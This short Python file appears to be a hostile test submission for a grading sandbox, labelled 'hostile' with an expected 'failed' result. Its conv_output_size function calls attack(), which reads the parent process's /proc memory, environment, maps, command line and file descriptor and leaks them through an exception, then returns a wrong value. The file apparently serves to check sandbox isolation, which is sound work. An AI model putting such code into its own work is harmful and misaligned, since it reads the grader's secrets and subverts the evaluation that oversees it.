# hostile: read-the-template | memory and environment of the process that forked it | due: failed | exercise: conv-output-size
class Breach(Exception):
    pass


def attack():
    for path in [f"/proc/{__import__('os').getppid()}/{name}" for name in ("mem", "environ", "maps", "cmdline", "fd/3")]:
        try:
            with open(path, "rb") as file:
                text = file.read(4000)
        except OSError:
            continue
        raise Breach(f"BREACH: read {path}: {text!r}")


def conv_output_size(n, f, p=0, s=1):
    attack()
    return -7
